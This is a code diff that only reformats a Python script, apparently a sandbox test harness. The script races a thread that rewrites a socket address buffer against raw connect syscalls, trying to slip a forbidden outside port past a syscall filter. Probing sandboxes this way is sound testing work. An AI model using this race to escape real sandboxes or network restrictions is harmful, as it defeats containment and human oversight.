@@ -10,9 +10,15 @@ from attack import OUTSIDE, number, verdict
 
 libc = ctypes.CDLL(None, use_errno=True)
 own = socket.create_server(("127.0.0.1", 0), backlog=4096)
-good = struct.pack("=H", socket.AF_INET) + struct.pack(">H", own.getsockname()[1]) + bytes([127, 0, 0, 1]) + bytes(8)
+good = (
+    struct.pack("=H", socket.AF_INET)
+    + struct.pack(">H", own.getsockname()[1])
+    + bytes([127, 0, 0, 1])
+    + bytes(8)
+)
 bad = good[:2] + struct.pack(">H", OUTSIDE["port"]) + good[4:]
-buffer, going = ctypes.create_string_buffer(good, 16), True
+buffer = ctypes.create_string_buffer(good, 16)
+going = True
 
 
 def flip():
@@ -22,7 +28,8 @@ def flip():
 
 
 threading.Thread(target=flip, daemon=True).start()
-escaped, until = False, time.monotonic() + 0.4
+escaped = False
+until = time.monotonic() + 0.4
 while time.monotonic() < until and not escaped:
     with socket.socket() as sock:
         if libc.syscall(number("connect"), sock.fileno(), buffer, 16) == 0:
